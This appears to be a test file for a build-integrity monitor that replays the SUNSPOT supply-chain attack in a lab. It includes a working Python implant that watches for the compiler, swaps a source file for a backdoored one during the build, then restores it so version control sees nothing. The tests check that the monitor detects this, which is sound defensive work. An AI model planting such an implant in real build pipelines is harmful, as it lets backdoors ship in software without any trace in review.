// docs/incidents/sunspot.md
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import t from 'tap'
import { openLab, type Lab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { fileEvents, makeRepository } from '../source-repo.ts'
import { replay, type Incident, type Replayed } from './replay.ts'

t.setTimeout(180_000)

const files = {
  'src/inventory.c': 'int refresh(void) { return 0; }\n',
  '.gitignore': '/build/\n',
}
const backdoor = 'int refresh(void) { return beacon(); }\n'

/** Waits for the compiler, swaps one file while it runs, and puts it back when it is gone. */
const implant = `import os, sys, time
source = 'src/inventory.c'
def compiling():
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            if b'compile.sh' in open('/proc/' + pid + '/cmdline', 'rb').read(): return True
        except OSError: pass
    return False
def write(text):
    with open(source, 'w') as file: file.write(text)
while not compiling(): time.sleep(0.01)
kept = open(source).read()
write(${JSON.stringify(backdoor)})
while compiling(): time.sleep(0.01)
write(kept)
`

/** Takes its time before it reads the source, as compilers do. */
const compiler = 'sleep 1; mkdir -p build; cat src/inventory.c >build/inventory.o; sleep 0.3'

/** The job of a fresh checkout, with the implant on its machine or without. */
async function build(
  lab: Lab,
  name: string,
  mode: 'audit' | 'block',
  withImplant: boolean,
): Promise<Replayed<'build'>> {
  const folder = lab.file(name)
  mkdirSync(folder)
  await makeRepository(lab, folder, files)
  writeFileSync(lab.file(`${name}.py`), implant)
  writeFileSync(lab.file(`${name}-compile.sh`), compiler)
  const start = withImplant ? `python3 ${lab.file(`${name}.py`)} & ` : ''
  const incident: Incident<'build'> = {
    attacker: [],
    spoils: [],
    policy: `allow: []\nintegrity: { workspace: ${folder}, onChange: ${mode === 'block' ? 'fail' : 'report'} }\n`,
    steps: { build: `cd ${folder}; ${start}sh ${lab.file(`${name}-compile.sh`)}; wait; git status --porcelain` },
  }
  return replay(lab, incident, mode)
}

t.test('SUNSPOT, 2020: a source file swapped while the compiler runs', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  for (const mode of ['audit', 'block'] as const)
    await t.test(`in ${mode}: both changes are told, with who made them`, async t => {
      const run = await build(lab, mode, mode, true)
      const product = readFileSync(`${lab.file(mode)}/build/inventory.o`, 'utf8')
      t.equal(product, backdoor, 'the attack works: this was compiled')
      t.equal(run.step('build').stdout, '', 'and git sees nothing any more')
      t.match(fileEvents(run.lines), [/^overwritten src\/inventory\.c python3/, /^restored src\/inventory\.c python3/])
      const [swapped, restored] = run.lines.filter(({ layer }) => layer === 'file')
      t.equal(restored?.after, swapped?.before)
      t.match(swapped?.process?.command, `${mode}.py`)
      t.match(
        run.findings.filter(({ kind }) => kind === 'source-changed').map(({ note }) => note),
        [/src\/inventory\.c/, /src\/inventory\.c/],
      )
      t.match(run.markdown, 'src/inventory.c')
      t.equal(run.exitCode, mode === 'block' ? 3 : 0, 'onChange: fail ends the job with a failure: nothing is released')
    })
  await t.test('without it the same build is quiet', async t => {
    const run = await build(lab, 'clean', 'block', false)
    t.strictSame([fileEvents(run.lines), run.findings, run.exitCode], [[], [], 0])
  })
})
